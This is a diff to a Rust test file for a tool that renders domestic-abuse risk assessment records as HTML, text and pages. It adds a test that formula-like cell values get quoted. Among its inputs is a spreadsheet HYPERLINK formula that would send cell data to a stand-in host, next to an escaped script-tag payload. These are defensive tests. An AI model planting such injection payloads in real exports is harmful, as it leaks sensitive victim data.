@@ -10,14 +10,14 @@ use proptest::collection::vec;
 use proptest::prelude::*;
 use serde_json::json;
 use support::arbitrary::{case, drawn, scribbled};
-use waymark::case::Case;
-use waymark::content::words::EN;
-use waymark::engine::assess;
-use waymark::record::leaves::{Height, cut, fill};
-use waymark::record::{Block, Document, People, compare, decision_log, html, plain_text, summary};
+use waymark_case::Case;
+use waymark_content::EN;
+use waymark_engine::assess;
+use waymark_record::leaves::{Height, cut, fill};
+use waymark_record::{Block, Document, People, compare, decision_log, html, plain_text, summary};
 
 fn people() -> People {
-    People { one: "the tenant".to_owned(), two: "the visitor".to_owned() }
+    People { one: "the tenant", two: "the visitor" }
 }
 
 fn case_of(json: serde_json::Value) -> Case {
@@ -37,7 +37,7 @@ fn documents() -> impl Iterator<Item = Document> {
 fn letters(blocks: &[Block]) -> String {
     let mut all = String::new();
     let mut table: (&[String], Vec<String>) = (&[], Vec::new());
-    for block in blocks {
+    for block in blocks.iter().map(Block::inner) {
         match block {
             Block::Table { head, rows } => {
                 if head != table.0 {
@@ -54,7 +54,7 @@ fn letters(blocks: &[Block]) -> String {
             Block::Heading(_, text) | Block::Paragraph(text) | Block::Quote(text) => all.push_str(text),
             Block::List(lines) | Block::ToFill(lines) => lines.iter().for_each(|line| all.push_str(line)),
             Block::Facts(facts) => facts.iter().for_each(|(label, value)| all.extend([label.as_str(), value])),
-            Block::Table { .. } => {}
+            Block::Table { .. } | Block::NoClaim(..) => {}
         }
     }
     all.extend(table.1);
@@ -66,7 +66,7 @@ fn letters(blocks: &[Block]) -> String {
 
 #[test]
 fn html_holds_only_elements_that_carry_structure() {
-    const OPEN: [&str; 15] = [
+    const OPEN: [&str; 16] = [
         "meta charset=\"utf-8\"",
         "h1",
         "h2",
@@ -80,8 +80,9 @@ fn html_holds_only_elements_that_carry_structure() {
         "thead",
         "tbody",
         "tr",
-        "table border=\"1\" cellspacing=\"0\" cellpadding=\"4\"",
+        "table border=\"1\" cellspacing=\"0\" cellpadding=\"4\" width=\"100%\"",
         "td valign=\"top\"",
+        "td valign=\"top\" width=\"60%\" height=\"36\"",
     ];
     for document in documents().take(400) {
         let html = html(std::slice::from_ref(&document));
@@ -92,8 +93,9 @@ fn html_holds_only_elements_that_carry_structure() {
             assert!(!text.contains('>'), "{text}");
         }
         let count = |tag: &str| html.matches(tag).count();
-        let blocks =
-            |of: fn(&Block) -> bool| document.blocks.iter().filter(|block| !block.is_empty() && of(block)).count();
+        let blocks = |of: fn(&Block) -> bool| {
+            document.blocks.iter().filter(|block| !block.is_empty() && of(block.inner())).count()
+        };
         let tables = blocks(|block| matches!(block, Block::Table { .. } | Block::Facts(_) | Block::ToFill(_)));
         assert_eq!(count("<table"), tables);
         assert_eq!(count("<thead"), blocks(|block| matches!(block, Block::Table { .. })));
@@ -116,6 +118,23 @@ fn what_a_text_holds_never_becomes_an_element() {
     let escaped = "&lt;b&gt;&amp;amp;&lt;/b&gt;<br>&quot;x&quot;  &lt;script&gt;alert(1)&lt;/script&gt;";
     assert_eq!(html.matches(escaped).count(), 5);
     assert!(html.contains("<td valign=\"top\">&nbsp;</td>"));
+}
+
+#[test]
+fn what_a_spreadsheet_would_work_out_stands_in_quotation_marks() {
+    let cell = |text: &str| {
+        let rows = vec![vec![text.to_owned(), text.to_owned()]];
+        let blocks = vec![Block::Paragraph(text.to_owned()), Block::Table { head: Vec::new(), rows }];
+        html(&[Document { notice: String::new(), title: String::new(), blocks, version: String::new() }])
+    };
+    for text in ["=1+41", " =HYPERLINK(\"http://x/?\"&A1)", "+1+41", "-1+41", "@SUM(A1)", "- she said\nno"] {
+        let html = cell(text);
+        assert_eq!(html.matches(">“").count(), 3, "{html}");
+        assert!(!html.contains(">=") && !html.contains(">@"), "{html}");
+    }
+    for text in ["07700 900 123", "+44 1632 960001", "she said =", "no"] {
+        assert!(!cell(text).contains('“'), "{text}");
+    }
 }
 
 // ---------------------------------------------------------------------------------------------------------- on paper
@@ -150,6 +169,7 @@ fn height(block: &Block) -> Height {
         Block::Table { rows, .. } => {
             rows.iter().map(|row| row.iter().map(|cell| 4.0 * lines(cell)).fold(1.0, f64::max)).collect()
         }
+        Block::NoClaim(_, block) => return height(block),
     };
     Height { around: 1.0, parts }
 }
@@ -180,8 +200,8 @@ fn leaves_hold_everything_once_in_order_and_none_is_too_full() {
 fn no_text_on_a_leaf_is_longer_than_what_fits() {
     for blocks in drawn(blocks()).take(100) {
         for block in cut(&blocks) {
-            let longest = match &block {
-                Block::Heading(..) | Block::ToFill(_) => 0,
+            let longest = match block.inner() {
+                Block::Heading(..) | Block::ToFill(_) | Block::NoClaim(..) => 0,
                 Block::Paragraph(text) | Block::Quote(text) => text.chars().count(),
                 Block::List(lines) => lines.iter().map(|line| line.chars().count()).max().unwrap_or(0),
                 Block::Facts(facts) => facts.iter().map(|(_, value)| value.chars().count()).max().unwrap_or(0),
@@ -218,7 +238,7 @@ fn what_changed_is_told_item_by_item_with_range_routes_and_outcome() {
     let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
     for wanted in [
         "Dash 3, what they fear, and for whom – yes; now: don't know; source and note now: police; not sure now",
-        "MARAC routes met – visible high risk: the count of yes answers; now: none",
+        "MARAC routes met – visible high risk: the count of yes answers; now: not assessed",
         EN.pages.compare.route_gone,
         "Pregnant",
         "a pregnancy",
